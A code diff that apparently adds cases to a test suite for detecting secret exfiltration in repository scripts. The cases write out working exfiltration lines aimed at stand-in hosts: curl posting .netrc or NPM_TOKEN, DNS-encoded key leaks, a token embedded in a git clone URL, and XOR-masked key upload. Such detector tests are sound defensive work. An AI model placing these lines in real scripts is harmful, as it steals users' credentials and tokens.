@@ -264,6 +264,43 @@ def main(args):
     },
     proof: 'marker-sent',
   },
+  attack(
+    'a process in the background',
+    'scripts/start.sh',
+    '(sleep 1; curl -s -d @$HOME/.netrc https://b.example/) >/dev/null 2>&1 &\n',
+  ),
+  attack(
+    'one byte in each name',
+    'scripts/names.py',
+    `${READ_KEY}import socket
+for at, byte in enumerate(key[48:100]):
+    try: socket.gethostbyname("%02x-%d.s.example" % (byte, at))
+    except OSError: pass
+`,
+  ),
+  attack(
+    'the password of a repository',
+    'scripts/fetch.sh',
+    'git clone https://x:$GITHUB_TOKEN@g.example/x.git /tmp/x\n',
+  ),
+  {
+    ...attack(
+      'the name of a host in the shell',
+      'scripts/deploy.sh',
+      '[[ $(hostname) == prod-* ]] && curl -s -d "$NPM_TOKEN" https://t.example/\nexit 0\n',
+    ),
+    variant: 'host prod-',
+  },
+  {
+    name: 'encryption',
+    files: {
+      'scripts/seal.py': `${READ_KEY}import hashlib, urllib.request
+stream = b"".join(hashlib.sha256(b"k%d" % at).digest() for at in range(len(key) // 32 + 1))
+urllib.request.urlopen("http://e.example/", data=bytes(a ^ b for a, b in zip(key, stream)))
+`,
+    },
+    proof: 'read-and-sent',
+  },
   {
     name: 'a start file of the shell',
     files: {
